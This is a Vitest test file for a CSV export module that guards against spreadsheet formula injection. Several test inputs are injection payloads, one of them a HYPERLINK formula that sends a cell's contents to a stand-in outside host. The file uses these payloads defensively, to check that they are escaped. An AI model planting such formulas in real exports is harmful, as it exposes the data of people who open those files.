import { readFile, readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { safeCell, toCsv } from './csv.server.ts'

describe('a cell', () => {
  it.each([
    '=1+1',
    '+44',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("https://example.org?"&A1)',
  ])('%j is not a formula', (text) => expect(safeCell(text)).toBe(`'${text}`))

  it.each(['Boundaries = care', '2026-11-05', 'a@b.example', '', '½', '5 of 8'])('%j is left alone', (text) =>
    expect(safeCell(text)).toBe(text),
  )
})

describe('a file', () => {
  it('begins with the mark of UTF-8, ends its lines as Windows does, and its headings are safe too', () => {
    expect(toCsv({ columns: ['Name', '=Cmd'], rows: [['Zoë “Zo”', 'a, b']] })).toBe(
      '\uFEFFName,\'=Cmd\r\nZoë “Zo”,"a, b"\r\n',
    )
  })

  it('keeps one cell in one piece where semicolons or tabs part the columns', () => {
    expect(toCsv({ columns: ['A'], rows: [['x;=1+1'], ['x\t=1'], ['two\nlines'], ['a "word"']] })).toBe(
      '\uFEFFA\r\n"x;=1+1"\r\n"x\t=1"\r\n"two\nlines"\r\n"a ""word"""\r\n',
    )
  })
})

it('is written here and nowhere else', async () => {
  const files = (await readdir('app', { recursive: true })).filter((file) => /\.tsx?$/.test(file))
  const writers: string[] = []
  for (const file of files) {
    const source = await readFile(join('app', file), 'utf8')
    if (/from 'csv-stringify|text\/csv/.test(source) && !file.includes('.test.')) writers.push(file)
  }
  expect(writers).toEqual(['platform/csv.server.ts'])
})
